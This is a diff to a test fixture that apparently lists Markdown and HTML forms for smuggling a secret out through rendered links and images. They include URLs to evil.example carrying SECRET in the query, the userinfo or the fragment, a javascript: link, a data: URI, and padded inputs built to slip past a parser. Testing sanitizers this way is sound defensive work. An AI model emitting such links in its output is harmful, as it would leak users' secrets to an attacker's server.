@@ -241,7 +241,7 @@ FORMS = {
     "put together by a removed link": "https://evil.exam[ple/p?q=SECRET](javascript:x)",
     "bang before a link": "!\\[x\\]\\(y\\)![](z)[x](https://evil.example/p?q=SECRET)",
     "data": "![x](data:image/svg+xml;base64,SECRET)",
-    "code span cut in two": "word " * 7000 + f"`![x]({SECRET})`" + " word" * 7000,
+    "code span cut in two": "`" + f"![x]({SECRET}) " * 1000 + "`",
     "behind the end of parsing": "word " * 20_000 + f"![x]({SECRET}) [y]({SECRET}) {SECRET} <img src={SECRET}>",
     "user name": "[x](https://SECRET@evil.example/)",
     "fragment": "[x](https://evil.example/p#SECRET)",
